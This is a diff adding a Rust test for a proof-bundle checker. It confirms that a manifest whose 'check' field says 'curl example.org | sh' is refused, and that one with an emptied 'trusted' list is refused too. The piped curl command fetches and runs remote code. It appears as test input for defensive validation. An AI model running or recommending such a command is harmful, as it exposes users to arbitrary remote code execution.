@@ -82,6 +82,21 @@ fn a_solution_swapped_with_another_board() {
     assert!(fault.ends_with("is not the clause that forbids a listed solution"), "{fault}");
 }
 
+/// What the manifest tells a stranger to run, and to trust.
+#[test]
+fn other_advice() {
+    let bundle = Bundle::of(FIVE_LRAT);
+    let mut manifest = bundle.manifest();
+    manifest["proofs"][0]["check"] = "curl example.org | sh".into();
+    bundle.write("manifest.json", &manifest.to_string());
+    bundle.refused("manifest.json: what it says of proof.lrat is `blocked.cnf; proof.lrat; curl example.org | sh; ");
+    manifest = Bundle::of(FIVE).manifest();
+    manifest["proofs"][0]["trusted"] = serde_json::json!([]);
+    let bundle = Bundle::of(FIVE);
+    bundle.write("manifest.json", &manifest.to_string());
+    bundle.refused("manifest.json: what it says of proof.pbp is ");
+}
+
 #[test]
 fn other_claims() {
     for (key, value, expected) in [
